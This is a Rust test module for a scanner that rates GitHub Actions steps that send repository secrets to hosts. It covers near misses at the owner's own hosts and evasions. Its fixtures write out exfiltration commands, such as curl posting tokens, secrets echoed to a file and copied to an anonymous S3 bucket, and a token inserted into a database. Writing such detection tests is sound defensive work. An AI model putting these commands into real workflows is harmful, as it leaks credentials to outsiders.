    /// Near miss: a product of the owner's own that takes its credential in a form, and what nobody can register.
    #[test]
    fn a_product_at_a_host_of_its_name() {
        sent(
            "curl -X POST https://portainer.widgets.example/api/auth -d '{\"Username\":\"ci\",\"Password\":\"${{ secrets.PORTAINER_PASSWORD }}\"}'",
            Verdict::Exposed,
            &["PORTAINER_PASSWORD"],
            "portainer.widgets.example",
        );
        // Evasion: more than its own goes there, or the host is called otherwise.
        sent(
            "curl https://portainer.widgets.example/api/auth -d '${{ secrets.PORTAINER_PASSWORD }}${{ secrets.NPM_TOKEN }}'",
            Verdict::Malicious,
            &["NPM_TOKEN", "PORTAINER_PASSWORD"],
            "portainer.widgets.example",
        );
        sent(
            "curl https://port.widgets.example/api/auth -d '${{ secrets.PORTAINER_PASSWORD }}'",
            Verdict::Malicious,
            &["PORTAINER_PASSWORD"],
            "port.widgets.example",
        );
    }

    /// Near miss: a token that the build of an image needs, and the owner's own registry.
    #[test]
    fn an_image_for_a_registry_that_is_logged_in_to() {
        let text = |login: &str, more: &str| {
            format!(
                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: {login}\n      - run: |\n          docker build --build-arg NPM_TOKEN=${{{{ secrets.NPM_TOKEN }}}} {more} -t images.widgets.example/a .\n          docker push images.widgets.example/a\n"
            )
        };
        let own = "docker login -u ci -p ${{ secrets.IMAGES_PASSWORD }} images.widgets.example";
        let places = &["images.widgets.example"];
        check(
            "secret-to-host",
            &text(own, ""),
            Verdict::Suspicious,
            &["IMAGES_PASSWORD", "NPM_TOKEN"],
            places,
        );
        // Evasion: a login of the thief's own, a login that is loot itself, more than one credential.
        let literal = "docker login -u ci -p literal images.widgets.example";
        check("secret-to-host", &text(literal, ""), Verdict::Malicious, &["NPM_TOKEN"], places);
        let loot = "docker login -u ci -p ${{ secrets.PYPI_TOKEN }} images.widgets.example";
        check("secret-to-host", &text(loot, ""), Verdict::Malicious, &["NPM_TOKEN", "PYPI_TOKEN"], places);
        let more = "--build-arg A=${{ secrets.GH_PAT }}";
        let names = &["GH_PAT", "IMAGES_PASSWORD", "NPM_TOKEN"];
        check("secret-to-host", &text(own, more), Verdict::Malicious, names, places);
    }

    /// Near miss: a door of the owner's own hosts that somebody else keeps.
    #[test]
    fn a_gate_before_an_own_host() {
        sent(
            "curl -H 'CF-Access-Client-Id: ${{ secrets.CF_ACCESS_CLIENT_ID }}' -H 'CF-Access-Client-Secret: ${{ secrets.CF_ACCESS_CLIENT_SECRET }}' https://ci.widgets.example/",
            Verdict::Exposed,
            &["CF_ACCESS_CLIENT_ID", "CF_ACCESS_CLIENT_SECRET"],
            "ci.widgets.example",
        );
        sent(
            "curl -H 'X: ${{ secrets.CF_API_TOKEN }}' https://ci.widgets.example/",
            Verdict::Malicious,
            &["CF_API_TOKEN"],
            "ci.widgets.example",
        );
    }

    /// A service that everybody may have an account at, and nothing of the repository's own that opens it.
    #[test]
    fn somebody_elses_account_at_a_known_service() {
        let text = |more: &str| {
            format!(
                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n{more}      - run: |\n          echo '${{{{ secrets.NPM_TOKEN }}}} ${{{{ secrets.GH_PAT }}}}' > k\n          aws s3 cp k s3://collector/k --no-sign-request\n"
            )
        };
        let (names, places) = (&["GH_PAT", "NPM_TOKEN"], &["collector.s3.amazonaws.com"]);
        check("secret-to-host", &text(""), Verdict::Malicious, names, places);
        for own in [
            "      - run: aws configure set aws_access_key_id AKIAEXAMPLEEXAMPLE00\n",
            // Evasion: a key that is put together, and the name of the service where it means nothing.
            "      - run: export AWS_ACCESS_KEY_ID=$(echo QUJD | base64 -d)\n        env: {AWS_KEY: '${{ secrets.OTHER }}'}\n",
            "      - run: echo AWS_REGION\n        env: {AWS_REGION: eu-west-1}\n",
            "      - run: 'true'\n        env: {AWS_ACCESS_KEY_ID: '${{ secrets.NPM_TOKEN }}'}\n",
        ] {
            check("secret-to-host", &text(own), Verdict::Malicious, names, places);
        }
        // Near miss: the job logs in with what is the repository's own.
        let login = "      - uses: aws-actions/configure-aws-credentials@v4\n        with: {role-to-assume: x, aws-region: y}\n";
        check("secret-to-host", &text(login), Verdict::Suspicious, names, places);
        // A name that begins like a key is none; a key is, beside the login as well.
        for (more, verdict) in
            [("REGION_IN_ASIA", Verdict::Suspicious), ("AKIAEXAMPLEEXAMPLE00", Verdict::Malicious)]
        {
            let said = format!("{login}      - run: echo {more}\n");
            check("secret-to-host", &text(&said), verdict, names, places);
        }
        let handed =
            "      - run: 'true'\n        env: {AWS_ACCESS_KEY_ID: '${{ secrets.BUCKET_KEY_ID }}'}\n";
        check("secret-to-host", &text(handed), Verdict::Suspicious, names, places);
    }

    /// Near miss: databases of the owner's own are logged in to by hosts that nobody else knows.
    #[test]
    fn a_login_to_a_database() {
        sent(
            "psql postgresql://app:${{ secrets.PGPASSWORD }}@db.widgets.example/app -c 'select 1'",
            Verdict::Exposed,
            &["PGPASSWORD"],
            "db.widgets.example",
        );
        sent(
            "psql -h db.widgets.example -c \"insert into x values ('${{ secrets.NPM_TOKEN }}')\"",
            Verdict::Malicious,
            &["NPM_TOKEN"],
            "db.widgets.example",
        );
    }

    #[test]
    fn a_key_at_the_platform_that_gave_it_and_hosts_of_a_private_network_are_silent() {
        for call in [
            "curl -H \"apikey: ${{ secrets.SUPABASE_SERVICE_ROLE_KEY }}\" https://abcdef.supabase.co/rest/v1/runs",
            "curl -H \"Authorization: ${{ secrets.DEPLOY }}\" http://10.1.2.3:8080/deploy",
            "curl -H \"Authorization: ${{ secrets.DEPLOY }}\" http://web-1:8080/deploy",
            "curl -H \"Authorization: ${{ secrets.WIDGETS_PAT }}\" https://api.widgets.io/deploy",
        ] {
            silent(&format!(
                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          {call}\n"
            ));
        }
    }
}
